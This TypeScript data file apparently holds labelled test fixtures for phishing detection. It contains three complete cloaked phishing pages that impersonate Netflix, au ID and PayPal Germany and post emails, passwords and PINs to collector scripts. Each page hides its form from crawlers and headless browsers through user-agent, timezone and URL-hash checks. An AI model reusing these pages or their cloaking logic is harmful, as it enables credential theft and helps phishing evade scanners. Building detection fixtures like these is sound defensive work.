import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';

export const entries: Entry[] = [
{
  id: 'a-cloak-ua-headless-netflix',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://netflix-membership-renew.com/login',
  routes: {
    'netflix-membership-renew.com/login': htmlRoute(`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Stream Recipes – healthy cooking at home</title>
</head>
<body style="margin:0;font-family:Georgia,serif">
<script>
if (/headless|bot|google|bing|yandex|facebookexternalhit|curl|python|wget/i.test(navigator.userAgent) || navigator.webdriver) {
  document.write('<div style="max-width:700px;margin:40px auto"><h1>Stream Recipes</h1><p>Quick weeknight dinners, one pot at a time. Our latest: lemon chickpea stew, roasted cauliflower tacos and a very forgiving banana bread.</p><p>&copy; 2025 Stream Recipes</p></div>');
} else {
  document.title = 'Netflix';
  document.write('<div style="background:#000 url(/login/bg.jpg) center/cover;min-height:100vh;font-family:Helvetica,Arial,sans-serif">'
    + '<div style="padding:24px 48px"><img src="/login/nf-logo.png" alt="Netflix" height="40"></div>'
    + '<div style="background:rgba(0,0,0,.75);max-width:450px;margin:0 auto;padding:60px 68px;box-sizing:border-box;color:#fff">'
    + '<h1 style="margin-top:0">Sign In</h1>'
    + '<p style="background:#e87c03;padding:10px 14px;border-radius:4px;font-size:14px">Your membership is on hold. Please sign in to update your billing details.</p>'
    + '<form method="post" action="/login/go.php">'
    + '<input name="email" placeholder="Email or phone number" style="width:100%;height:50px;margin-bottom:16px;background:#333;border:0;border-radius:4px;color:#fff;padding:0 16px;box-sizing:border-box">'
    + '<input name="password" type="password" placeholder="Password" style="width:100%;height:50px;margin-bottom:16px;background:#333;border:0;border-radius:4px;color:#fff;padding:0 16px;box-sizing:border-box">'
    + '<button style="width:100%;height:48px;background:#e50914;color:#fff;border:0;border-radius:4px;font-size:16px;font-weight:bold">Sign In</button>'
    + '</form></div></div>');
}
</script>
</body></html>`),
  },
},
{
  id: 'a-cloak-timezone-jp-aupay',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://au-id-login.jp-support.cyou/auid/login',
  routes: {
    'au-id-login.jp-support.cyou/auid/login': htmlRoute(`<!DOCTYPE html>
<html lang="ja">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>404 Not Found</title>
<style>
body{margin:0;font-family:"Hiragino Sans",Meiryo,sans-serif}
.nf{font-family:Arial;padding:40px}
.hd{background:#eb5505;height:56px;display:flex;align-items:center;padding:0 16px;color:#fff;font-weight:bold;font-size:20px}
.bx{max-width:440px;margin:24px auto;padding:0 16px}
.bx input{width:100%;height:44px;border:1px solid #aaa;border-radius:4px;padding:0 10px;margin:6px 0 14px;box-sizing:border-box;font-size:16px}
.bx button{width:100%;height:48px;background:#eb5505;color:#fff;border:0;border-radius:24px;font-size:16px}
</style>
</head>
<body>
<div id="x" class="nf"><h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr><address>Apache/2.4.41 (Ubuntu) Server Port 443</address></div>
<script>
(function(){
  var tz = '';
  try { tz = Intl.DateTimeFormat().resolvedOptions().timeZone || ''; } catch (e) {}
  var lang = (navigator.language || '').toLowerCase();
  if (tz !== 'Asia/Tokyo' && lang.indexOf('ja') !== 0) return;
  document.title = 'au ID ログイン';
  document.getElementById('x').outerHTML =
    '<div class="hd">au ID</div>' +
    '<div class="bx"><p style="font-size:14px;color:#c00">お客様のau PAYカードのご利用を一時的に制限しております。以下よりご本人様確認をお願いいたします。</p>' +
    '<form method="post" action="/auid/login/confirm.php">' +
    '<label>au ID（電話番号・メールアドレス）</label><input name="loginAliasId">' +
    '<label>パスワード</label><input name="loginAuthPassword" type="password">' +
    '<label>暗証番号</label><input name="pin" type="password" maxlength="4">' +
    '<button>次へ</button></form></div>';
})();
</script>
</body>
</html>`),
  },
},
{
  id: 'a-cloak-referrer-hash-gate-paypal-de',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://kontoklaerung-service.de-paypal-hilfe.com/webapps/mpp/login#t=9c1e',
  routes: {
    'kontoklaerung-service.de-paypal-hilfe.com/webapps/mpp/login': htmlRoute(`<!DOCTYPE html>
<html lang="de">
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Seite nicht gefunden</title>
<style>body{margin:0;font-family:Helvetica,Arial,sans-serif;color:#2c2e2f}</style>
</head>
<body>
<div id="v" style="padding:40px"><h1>Seite nicht gefunden</h1><p>Diese Seite existiert nicht oder wurde verschoben.</p></div>
<script>
(function(){
  var t = location.hash.slice(1);
  var touch = 'ontouchstart' in window || navigator.maxTouchPoints > 0;
  var plugins = navigator.plugins ? navigator.plugins.length : 0;
  if (t.indexOf('t=') !== 0 || navigator.webdriver || (!touch && plugins === 0)) return;
  document.title = 'Bei PayPal einloggen';
  var v = document.getElementById('v');
  v.style.cssText = 'max-width:460px;margin:40px auto;border:1px solid #eaeced;border-radius:12px;padding:32px 40px';
  v.innerHTML = '<div style="text-align:center"><img src="/webapps/mpp/img/pp.svg" alt="PayPal" height="32"></div>'
    + '<p style="text-align:center">Ihr Konto wurde vorübergehend eingeschränkt. Bitte loggen Sie sich ein, um die Einschränkung aufzuheben.</p>'
    + '<form method="post" action="/webapps/mpp/login/weiter.php">'
    + '<input name="email" placeholder="E-Mail-Adresse oder Handynummer" style="width:100%;height:48px;margin-bottom:12px;padding:0 12px;border:1px solid #9da3a6;border-radius:4px;box-sizing:border-box">'
    + '<input name="passwort" type="password" placeholder="Passwort" style="width:100%;height:48px;margin-bottom:12px;padding:0 12px;border:1px solid #9da3a6;border-radius:4px;box-sizing:border-box">'
    + '<button style="width:100%;height:48px;border:0;border-radius:24px;background:#0070ba;color:#fff;font-size:16px">Einloggen</button></form>';
})();
</script>
</body></html>`),
  },
},
];
